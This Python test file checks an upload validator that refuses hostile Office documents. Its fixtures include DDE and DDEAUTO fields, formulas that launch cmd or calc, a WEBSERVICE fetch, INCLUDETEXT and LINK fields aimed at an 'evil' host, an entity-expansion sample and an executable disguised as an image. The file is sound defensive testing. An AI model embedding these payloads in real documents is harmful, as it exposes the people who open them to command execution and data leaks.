"""What acts or reaches out in Word and Excel files is found by what it is, under whatever name and wherever."""

from __future__ import annotations

import pytest

from goldenthread.ground.rules.archives import why_not_open_office
from goldenthread.ground.rules.office_parts import MOST_FIELDS_WITHIN
from goldenthread.ground.rules.uploads import Kind, examine
from goldenthread.ground.types import Refusal
from tests.makers.documents import content_types, docx, relations, word_xml, xlsx

BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
PICTURE = "https://elsewhere.example/1.png"
LAUGHS = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">]><a>&a;</a>'
SHARE = r"INCLUDETEXT \\\\evil\\a.docx"
LOCAL = r' INCLUDEPICTURE  "C:\\Users\\x\\a.png" \* MERGEFORMAT '
OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
RELATED = "word/_rels/document.xml.rels"


def run(instruction: str) -> str:
    return f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"


def field(*instructions: str) -> str:
    """A field whose instruction is cut into these runs."""
    return f"{BEGIN}{''.join(map(run, instructions))}{SEPARATE}<w:r><w:t>1</w:t></w:r>{END}"


def simple(instruction: str) -> str:
    return f"<w:fldSimple w:instr='{instruction}'/>"


def workbook(inner: str, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    """An Excel file with one more part."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return xlsx({name: f'<worksheet xmlns="{main}">{inner}</worksheet>'})


LINKS = "xl/externalLinks/externalLink1.xml"
HOSTILE = {
    "a program, behind another field": (docx(field(" PAGE") + field("DDEAUTO c:x")), "file_has_macros"),
    "a program, in a whole field": (docx(simple("DDE&#65;UTO c:x")), "file_has_macros"),
    "a program, in a header": (docx(more={"word/header1.xml": word_xml(field("DDE"), root="hdr")}), "file_has_macros"),
    "a program, in a part of another name": (
        docx(more={"word/header1.dat": word_xml(field("DDE"), root="hdr").replace("UTF-8", "UTF-16").encode("utf-16")}),
        "file_has_macros",
    ),
    "a program, in a field that is not ended": (docx(BEGIN + run("DDE c:x")), "file_has_macros"),
    "a program, in no field": (docx(run("DDE c:x")), "file_has_macros"),
    "a program, spelt in numbers": (docx(simple("QUOTE 68 68 69 65")), "file_has_macros"),
    "a program, named by another field": (docx(BEGIN + run(" D") + field("QUOTE 2") + END), "file_has_macros"),
    "fields in fields in fields": (docx((BEGIN + run("IF 1")) * 30 + END * 30), "file_has_macros"),
    "a picture by a field": (docx(simple(f"INCLUDEPICTURE {PICTURE}")), "file_reaches_out"),
    "a picture by a field in pieces": (docx(field("INCLUDE", "PICTURE", " ", PICTURE)), "file_reaches_out"),
    "words from a share by a field": (docx(field(SHARE)), "file_reaches_out"),
    "an object by a field": (docx(field(' LINK Excel.Sheet.12 "file://evil/a.xlsx"')), "file_reaches_out"),
    "a letter to many": (
        docx(more={"word/settings.xml": word_xml("<w:mailMerge/>", root="settings")}),
        "file_reaches_out",
    ),
    "a picture from elsewhere, said to be inside": (
        docx(more={RELATED: relations(("image", PICTURE))}),
        "file_reaches_out",
    ),
    "two documents": (docx(more={"_rels/.rels": relations(("officeDocument", "word/o.xml"))}), "file_two_things"),
    "laughs among the relationships": (docx(more={"_rels/.rels": LAUGHS}), "file_entities"),
    "an object under another name": (docx(more={"word/embeddings/oleObject1.dat": OLD}), "file_nested"),
    "an object called printer settings": (docx(more={"word/printerSettings/p1.bin": OLD}), "file_nested"),
    "a program called a picture": (
        docx(more={"word/media/a.png": b"MZ" + b"\x00" * 90 + b"PE\x00\x00"}),
        "file_nested",
    ),
    "an object by its relationship": (docx(more={RELATED: relations(("oleObject", "a.dat"))}), "file_nested"),
    "a page by its relationship": (docx(more={RELATED: relations(("aFChunk", "a.dat"))}), "file_nested"),
    "an object by its type": (docx(more={"[Content_Types].xml": content_types(OBJECT, "/word/a.dat")}), "file_nested"),
    "macros by their relationship": (docx(more={RELATED: relations(("vbaProject", "a.dat"))}), "file_has_macros"),
}
WORKBOOKS = {
    "a link to a program": (workbook('<ddeLink ddeService="cmd" ddeTopic="/C calc"/>', LINKS), "file_has_macros"),
    "a link to an object": (workbook("<oleLink/>", LINKS), "file_has_macros"),
    "a formula that starts a program": (workbook("<f>cmd|'/C calc'!A0</f>"), "file_has_macros"),
    "a formula in code": (workbook("<f t='x'>cmd&#124;'/C calc'!A0</f>"), "file_has_macros"),
    "a formula that fetches": (workbook('<f>_xlfn.WEBSERVICE("http://x.example")</f>'), "file_has_macros"),
    "data from a page": (workbook('<webPr url="http://x.example"/>', "xl/connections.xml"), "file_reaches_out"),
    "data fetched when opened": (workbook('<a refreshOnLoad="1"/>', "xl/connections.xml"), "file_reaches_out"),
}
SOUND = {
    "a table of contents with links": BEGIN
    + run(' TOC \\o "1-3" ')
    + SEPARATE
    + field(' HYPERLINK "https://example.org/dde-link/import" ')
    + END,
    "a picture from one's own disk": field(LOCAL),
    "a sum of a page's number": BEGIN + run("=") + field("PAGE") + run("+1") + END,
    "a page of a page": simple(" QUOTE 2 ") + simple(r"LINK Excel.Sheet.12 C:\\x.xlsx"),
    "an end without a beginning": SEPARATE + END + field("PAGE"),
    "as many fields in fields as anybody has": (BEGIN + run("IF 1 ")) * MOST_FIELDS_WITHIN + END * MOST_FIELDS_WITHIN,
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_document_is_refused(case: str) -> None:
    content, code = HOSTILE[case]

    refusal = why_not_open_office(content, main_part="word/document.xml")

    assert refusal is not None
    assert refusal.code == code
    assert refusal.mend


@pytest.mark.parametrize("case", WORKBOOKS)
def test_a_hostile_workbook_is_refused(case: str) -> None:
    content, code = WORKBOOKS[case]

    refusal = why_not_open_office(content, main_part="xl/workbook.xml")

    assert refusal is not None
    assert refusal.code == code


@pytest.mark.parametrize("case", SOUND)
def test_fields_that_people_have_are_taken(case: str) -> None:
    assert why_not_open_office(docx(SOUND[case]), main_part="word/document.xml") is None


def test_parts_that_only_look_odd_are_taken() -> None:
    formulas = workbook('<f>IF(A1="a|b",B1&amp;"|x","&#124;")</f><definedName>Sheet1!$A$1</definedName>')
    blank = docx(more={"word/media/a.emf": b" " * 5000})

    assert why_not_open_office(formulas, main_part="xl/workbook.xml") is None
    assert why_not_open_office(blank, main_part="word/document.xml") is None
    assert why_not_open_office(docx(more={"word/media/a.emf": b"\x01\x00"}), main_part="word/document.xml") is None


def test_a_workbook_that_is_refused_is_saved_again_as_a_workbook() -> None:
    content = xlsx({"xl/vbaProject.bin": b"x"})

    refusal = examine(content, name="a.xlsx", kinds=frozenset({Kind.XLSX}), most_bytes=1_000_000)

    assert isinstance(refusal, Refusal)
    assert (".xlsx" in refusal.mend, ".docx" in refusal.mend) == (True, False)
